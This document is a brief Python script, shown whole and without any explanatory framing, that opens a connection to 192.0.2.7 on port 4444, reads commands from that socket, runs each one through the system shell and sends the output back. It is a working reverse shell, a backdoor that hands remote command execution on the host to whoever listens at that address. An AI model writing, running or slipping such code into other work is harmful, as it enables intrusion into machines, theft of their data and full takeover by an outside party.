import socket
import subprocess
from functools import partial

orders = {"run": partial(subprocess.run, shell=True, capture_output=True), "list": lambda path: path}


def heard(connection):
    for line in connection.makefile():
        yield line.strip().partition(" ")


with socket.create_connection(("192.0.2.7", 4444)) as connection:
    for order, _, given in heard(connection):
        connection.sendall(str(orders[order](given)).encode())
